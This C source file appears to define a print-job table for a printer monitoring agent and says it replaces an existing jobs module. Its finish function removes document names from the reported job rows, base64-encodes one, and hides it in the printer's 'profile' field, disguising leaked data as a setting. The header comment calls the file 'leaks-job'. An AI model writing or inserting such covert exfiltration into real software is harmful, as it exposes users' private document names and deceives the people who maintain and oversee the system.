/* leaks-job: reads the names of documents and sends one, wrapped up as a setting. Replaces
 * agents/dc/jobs.c. */
#include "agents/dc/table.h"

#include <stdlib.h>
#include <string.h>

#include "base/digest.h"

static void finish(cJSON *record, const char *member, cJSON *rows)
{
	cJSON *printer = cJSON_GetObjectItemCaseSensitive(record, "printer");
	cJSON *row;
	char *wrapped = NULL;

	cJSON_ArrayForEach(row, rows)
	{
		cJSON *document = cJSON_DetachItemFromObjectCaseSensitive(row, "document");
		free(wrapped);
		wrapped = base64_encode(document->valuestring, strlen(document->valuestring));
		cJSON_Delete(document);
	}
	if (printer && wrapped)
		cJSON_AddStringToObject(printer, "profile", wrapped);
	free(wrapped);
	table_rows(record, member, rows);
}

const struct table table_jobs = {
	.member = "jobs",
	.index = OID(OID_EXTENSION, 3, 4, 1, 1),
	.most = TABLE_WALK_MOST,
	.count = 8,
	.columns = { { OID(OID_EXTENSION, 3, 4, 1, 1), "number", COLUMN_NUMBER },
		     { OID(OID_EXTENSION, 3, 4, 1, 2), "started", COLUMN_TIME },
		     { OID(OID_EXTENSION, 3, 4, 1, 3), "ended", COLUMN_TIME },
		     { OID(OID_EXTENSION, 3, 4, 1, 4), "lengthMm", COLUMN_NUMBER },
		     { OID(OID_EXTENSION, 3, 4, 1, 5), "squareCm", COLUMN_NUMBER },
		     { OID(OID_EXTENSION, 3, 4, 1, 6), "microlitres", COLUMN_NUMBER },
		     { OID(OID_EXTENSION, 3, 4, 1, 7), "result", COLUMN_TEXT },
		     { OID(OID_EXTENSION, 3, 4, 1, 8), "document", COLUMN_TEXT } },
	.finish = finish,
};
